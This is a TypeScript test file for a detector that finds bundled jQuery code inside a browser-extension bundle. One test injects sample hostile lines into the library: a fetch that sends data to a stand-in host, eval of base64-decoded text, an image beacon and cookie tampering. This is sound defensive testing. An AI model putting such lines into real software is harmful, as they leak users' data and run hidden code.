import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { factsOf } from '../../testing/examples.ts';
import { libraryAt, libraryRegionsOf } from './libraryRegions.ts';

const BUNDLE = readFileSync(
  join(import.meta.dirname, '../../../../test/corpus/libraries/library-in-a-bundle/app.js'),
  'utf8',
);
const regions = async (text: string) =>
  (await factsOf({ files: { 'manifest.json': '{"manifest_version": 3}', 'app.js': text } }))
    .whole(libraryRegionsOf)
    .get('app.js');

describe('libraryRegionsOf', () => {
  it('finds the function of a bundle that is the library, and no more', async () => {
    const found = await regions(BUNDLE);
    const line = (part: string): number => BUNDLE.slice(0, BUNDLE.indexOf(part)).split('\n').length;
    expect(found).toHaveLength(1);
    expect(libraryAt(found, { line: line('this[0].innerHTML'), column: 20 })).toBe('jquery');
    expect(libraryAt(found, { line: line('document.body.innerHTML'), column: 20 })).toBeUndefined();
  });

  it('takes a function for no library where somebody else’s code stands in it', async () => {
    for (const line of [
      'fetch("https://x.example/" + text);',
      'eval(atob(text));',
      'new Image().src = "https://x.example/p";',
      'document.cookie = text;',
    ]) {
      expect(await regions(BUNDLE.replace('this[0].innerHTML = text;', line))).toBeUndefined();
    }
  });

  it('needs the whole body, not the name and version alone', async () => {
    expect(await regions(BUNDLE.replace('triggerHandler', 'other'))).toBeUndefined();
    expect(
      await regions('const a = { jquery: "3.4.1" }; function f() { return document.body.innerHTML = g(); }'),
    ).toBeUndefined();
  });

  it('leaves a bundle’s own outermost function alone', async () => {
    expect(
      await regions(
        '(function () { var jquery = { jquery: "3.4.1" }; f("pushStack", "triggerHandler", "ajaxSetup"); document.createTextNode("x"); document.body.innerHTML = g(); })();',
      ),
    ).toBeUndefined();
  });
});
